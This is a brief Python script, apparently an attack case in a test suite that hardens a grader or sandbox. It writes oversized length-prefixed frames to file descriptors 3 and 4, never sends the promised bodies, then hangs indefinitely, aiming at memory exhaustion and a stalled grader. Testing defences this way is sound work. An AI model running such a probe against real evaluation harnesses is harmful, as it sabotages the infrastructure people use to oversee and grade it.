"""MUST PREVENT: making the grader take memory for a frame that is announced and never comes"""
import os, json, sys, time
I = json.loads(os.environ.get("ATK", "{}"))
def out(bad, msg=""): print(("BREACH " if bad else "BLOCKED ") + str(msg)[:200], flush=True)
def attempt(fn):
    try: return fn(), None
    except BaseException as e: return None, "%s: %s" % (type(e).__name__, e)
import struct
for size in ((256 << 20) - 1, 0xFFFFFFFF):
    for fd in (3, 4): attempt(lambda: os.write(fd, struct.pack("<I", size) + b"\x81"))
print("SENT", flush=True)
while True: time.sleep(100)
